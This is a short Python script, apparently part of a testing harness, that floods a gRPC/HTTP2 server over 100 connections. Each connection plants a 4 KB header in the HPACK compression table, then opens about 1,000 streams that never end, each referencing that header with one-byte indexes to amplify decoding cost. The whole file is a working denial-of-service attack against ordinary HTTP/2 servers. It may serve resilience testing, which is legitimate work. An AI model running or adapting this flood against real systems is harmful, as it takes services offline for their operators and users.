"""Requests without an end, 1,000 on each of 100 connections, with three references of one byte to a field of 4 KB."""

import time

from wire import END_HEADERS, GET, HEADERS, PREFACE, connect, discard, frame, settings

# A field of 4,000 bytes into the table: its index is then 62.
FIELD = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4_000
CONNECTIONS = 100


def flood(target, until):
    opening = PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, GET + FIELD)
    opening += b"".join(frame(HEADERS, END_HEADERS, stream, GET + b"\xbe" * 3) for stream in range(3, 2_001, 2))
    closed, peers = 0, []
    while time.monotonic() < until:
        if len(peers) == CONNECTIONS:
            time.sleep(0.05)
        else:
            try:
                peer = connect(target.grpc)
                peer.sendall(opening)
                peers.append(peer)
            except OSError:
                closed += 1
        for peer in list(peers):
            try:
                discard(peer)
            except OSError:
                closed += 1
                peers.remove(peer)
    return closed
